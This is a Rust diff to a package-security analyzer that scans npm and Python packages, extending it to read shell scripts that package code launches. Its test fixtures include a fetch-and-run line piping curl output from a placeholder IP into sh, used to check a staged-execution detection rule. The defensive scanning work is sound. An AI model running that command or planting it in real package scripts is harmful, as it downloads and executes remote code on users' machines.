@@ -246,10 +246,7 @@ impl Analyzer {
                             if w.ends_with(".js") || w.ends_with(".mjs") || w.ends_with(".cjs") {
                                 install_js.push(w.trim_start_matches("./").to_string());
                             }
-                            if [".sh", ".bash", ".bat", ".cmd", ".ps1"]
-                                .iter()
-                                .any(|e| w.to_ascii_lowercase().ends_with(e))
-                            {
+                            if patterns::is_script_name(w) {
                                 install_scripts.push(w.trim_start_matches("./").to_string());
                             }
                         }
@@ -426,28 +423,8 @@ impl Analyzer {
             {
                 // Every line of a script the install hook runs is a command run at install.
                 code_files += 1;
-                let text = String::from_utf8_lossy(&f.data);
-                for (i, line) in text.lines().enumerate().take(5000) {
-                    let t = line.trim();
-                    if t.is_empty()
-                        || t.starts_with('#')
-                        || t.starts_with("::")
-                        || t.starts_with("REM ")
-                    {
-                        continue;
-                    }
-                    for p in patterns::command_rules(t) {
-                        let msg = format!("install script {}: {}", p.what, model::snippet(t));
-                        findings_extra.push(raw(
-                            p.rule,
-                            path,
-                            i as u32 + 1,
-                            t,
-                            msg,
-                            Some(Scope::INSTALL),
-                        ));
-                    }
-                }
+                script_commands(path, &f.data, "install script", Scope::INSTALL)
+                    .for_each(|r| findings_extra.push(r));
             } else if ecosystem == Ecosystem::Npm
                 && (lower.ends_with(".js") || lower.ends_with(".mjs") || lower.ends_with(".cjs"))
                 && !path.contains("/node_modules/")
@@ -521,6 +498,30 @@ impl Analyzer {
                 };
                 let facts = self.python_file(&f.data, &ctx, &mut sink);
                 per_file_facts.push((f.path.clone(), facts));
+            }
+        }
+
+        // Shell scripts the package ships and its code starts (`exec('bash setup.sh')`):
+        // every line is a command run where the start is. Install-hook scripts were
+        // read above.
+        let mut started: Vec<(&str, Scope)> = per_file_facts
+            .iter()
+            .flat_map(|(_, facts)| facts.run_files.iter())
+            .filter(|(name, ..)| patterns::is_script_name(name))
+            .map(|(name, _, scope, _)| (name.as_str(), *scope))
+            .collect();
+        started.sort_by(|a, b| a.0.cmp(b.0));
+        started.dedup_by(|a, b| a.0 == b.0);
+        for (name, scope) in started {
+            for f in files.iter().filter(|f| {
+                basename(&f.path) == name
+                    && !install_scripts
+                        .iter()
+                        .any(|j| f.path.strip_prefix(npm_root.as_str()) == Some(j.as_str()))
+            }) {
+                code_files += 1;
+                script_commands(&f.path, &f.data, "script the code starts", scope)
+                    .for_each(|r| findings_extra.push(r));
             }
         }
 
@@ -1196,6 +1197,35 @@ fn has_source(pyc: &str, sources: &HashSet<&str>) -> bool {
     sources.contains(format!("{parent}{module}.py").as_str())
 }
 
+/// Command findings for each line of a shell script (`what` says which script in the
+/// message), placed at `scope`. Blank lines and comments (`#`, `::`, `REM`) are skipped.
+fn script_commands<'a>(
+    path: &'a str,
+    data: &'a [u8],
+    what: &'a str,
+    scope: Scope,
+) -> impl Iterator<Item = Raw> + 'a {
+    let text = String::from_utf8_lossy(data).into_owned();
+    let lines: Vec<(u32, String)> = text
+        .lines()
+        .enumerate()
+        .take(5000)
+        .map(|(i, l)| (i as u32 + 1, l.trim().to_string()))
+        .filter(|(_, t)| {
+            !(t.is_empty() || t.starts_with('#') || t.starts_with("::") || t.starts_with("REM "))
+        })
+        .collect();
+    lines.into_iter().flat_map(move |(line, t)| {
+        patterns::command_rules(&t)
+            .into_iter()
+            .map(|p| {
+                let msg = format!("{what} {}: {}", p.what, model::snippet(&t));
+                raw(p.rule, path, line, &t, msg, Some(scope))
+            })
+            .collect::<Vec<_>>()
+    })
+}
+
 fn basename(p: &str) -> &str {
     p.rsplit(['/', '!']).next().unwrap_or(p)
 }
@@ -1534,6 +1564,48 @@ mod tests {
             "{:?}",
             report.iocs
         );
+    }
+
+    #[test]
+    fn a_shipped_script_the_code_starts_is_read_as_commands_run_there() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let report = |starter: &str, name: &str| {
+            let files = [
+                pf(
+                    "package/package.json",
+                    r#"{"name":"x","version":"1.0.0","main":"index.js"}"#,
+                ),
+                pf("package/index.js", starter),
+                pf(name, "curl -s http://203.0.113.5/x | sh\n"),
+            ];
+            a.analyze(&files, &[])
+                .findings
+                .into_iter()
+                .filter(|f| f.rule == "CMD-STAGED-EXEC" && f.file == name)
+                .map(|f| f.stage)
+                .collect::<Vec<_>>()
+        };
+        let js = "require('child_process').exec('/bin/bash setup.sh');\n";
+        assert_eq!(report(js, "package/setup.sh"), vec![Some(Stage::Import)]);
+        let bat = "require('child_process').spawn('cmd.exe', ['/c', 'run.bat']);\n";
+        assert_eq!(report(bat, "package/run.bat"), vec![Some(Stage::Import)]);
+        // A script nothing starts, or one of another name, is not read.
+        assert!(report("module.exports = 1;\n", "package/setup.sh").is_empty());
+        assert!(report(js, "package/other.sh").is_empty());
+        // Python: `subprocess.call(['bash', 'x.sh'])` from setup.py runs it at install.
+        let py = a.analyze(
+            &[
+                pf(
+                    "p-1.0/setup.py",
+                    "import subprocess\nsubprocess.call(['bash', 'x.sh'])\n",
+                ),
+                pf("p-1.0/x.sh", "curl -s http://203.0.113.5/x | sh\n"),
+            ],
+            &[],
+        );
+        assert!(py.findings.iter().any(|f| f.rule == "CMD-STAGED-EXEC"
+            && f.file == "p-1.0/x.sh"
+            && f.stage == Some(Stage::Install)));
     }
 
     #[test]
